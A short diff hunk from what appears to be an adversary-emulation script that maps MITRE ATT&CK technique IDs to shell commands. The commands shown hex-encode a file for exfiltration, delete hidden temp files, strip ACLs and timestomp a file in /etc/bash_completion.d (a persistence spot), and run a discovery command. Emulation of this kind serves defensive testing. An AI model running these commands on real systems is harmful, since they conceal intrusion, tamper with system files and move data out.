@@ -177,7 +177,7 @@ T1048.003 n=9; for p in $(xxd -p -c 120 .{word}.gz | sed -n 5,8p); do /usr/lib/a
 T1070.004 rm -f /tmp/.{word}.* .{word}*
 T1222.002 setfacl -b /etc/bash_completion.d 2>/dev/null; ls -la /etc/bash_completion.d
 T1070.006 touch -d '2026-06-02 09:10' /etc/bash_completion.d/make-letter
-T1033 last -n 3
+T1033 who -b
 """
 
 NOTE = """#!/bin/bash
